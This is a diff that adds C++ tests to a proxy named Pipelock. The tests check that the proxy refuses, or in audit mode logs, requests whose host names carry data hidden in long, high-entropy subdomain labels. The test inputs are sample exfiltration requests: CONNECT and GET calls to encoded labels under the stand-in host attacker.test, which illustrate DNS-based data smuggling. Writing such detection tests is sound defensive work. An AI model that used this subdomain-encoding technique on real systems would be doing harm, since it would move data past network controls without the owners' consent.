@@ -86,6 +86,48 @@ TEST(PipelockProxy, AHostNotListedGets403NamingTheHostAndTheReason) {
       std::string::npos);
 }
 
+TEST(PipelockProxy, AHostNameCarryingDataIsRefusedBeforeItIsLookedUp) {
+  // balanced mode, no allowlist: the name would be looked up (and the lookup
+  // itself would carry the data to attacker.test's DNS) if it were not
+  // refused first; nothing resolves it here, so a lookup would answer 502.
+  Pipelock p(
+      "mode: balanced\n"
+      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
+      "forward_proxy: {enabled: true}\n");
+  const std::string chunk = "mzxw6ytboi2gk3tfnzsxg5lsmnzgk5dtmv2gk3tunf2gk3dp";
+  for (const std::string& request : {"CONNECT " + chunk + ".attacker.test:443 HTTP/1.1\r\n\r\n",
+                                     "GET http://" + chunk + ".attacker.test/ HTTP/1.1\r\nHost: " +
+                                         chunk + ".attacker.test\r\n\r\n"}) {
+    const std::string reply = exchange(p.port(), request);
+    EXPECT_EQ(reply.rfind("HTTP/1.1 403 Forbidden\r\n", 0), 0u) << reply;
+    EXPECT_NE(reply.find("X-Pipelock-Block-Reason: subdomain entropy: label 1 (48 characters) "
+                         "below attacker.test has "),
+              std::string::npos)
+        << reply;
+    EXPECT_EQ(reply.find(chunk), std::string::npos) << "the answer quotes the data";
+    auto d = decision(p);
+    EXPECT_EQ(d["decision"], "block");
+    EXPECT_EQ(d["host"], "<48 chars>.attacker.test") << "the log keeps the data";
+  }
+  // An ordinary name goes on to the lookup.
+  const std::string reply =
+      exchange(p.port(), "CONNECT d3kbcqa49mib13.attacker.test:443 HTTP/1.1\r\n\r\n");
+  EXPECT_EQ(reply.find("subdomain entropy"), std::string::npos) << reply;
+}
+
+TEST(PipelockProxy, InAuditModeAHostNameCarryingDataIsLoggedNotRefused) {
+  Pipelock p(
+      "mode: audit\n"
+      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
+      "forward_proxy: {enabled: true}\n");
+  const std::string reply =
+      exchange(p.port(), "CONNECT kx7qm2pl.9vrt4swz.8ynbq3ab.attacker.test:443 HTTP/1.1\r\n\r\n");
+  EXPECT_EQ(reply.find("403"), std::string::npos) << reply;
+  auto d = decision(p);
+  EXPECT_EQ(d["host"], "<8 chars>.<8 chars>.<8 chars>.attacker.test");
+  EXPECT_NE(d.dump().find("audit: would block: subdomain entropy"), std::string::npos) << d.dump();
+}
+
 TEST(PipelockProxy, ANameResolvingToAPrivateAddressIsRefusedUnlessItsSubnetIsAllowlisted) {
   Upstream up;
   const std::string url = "http://private.test:" + std::to_string(up.port()) + "/index.html";
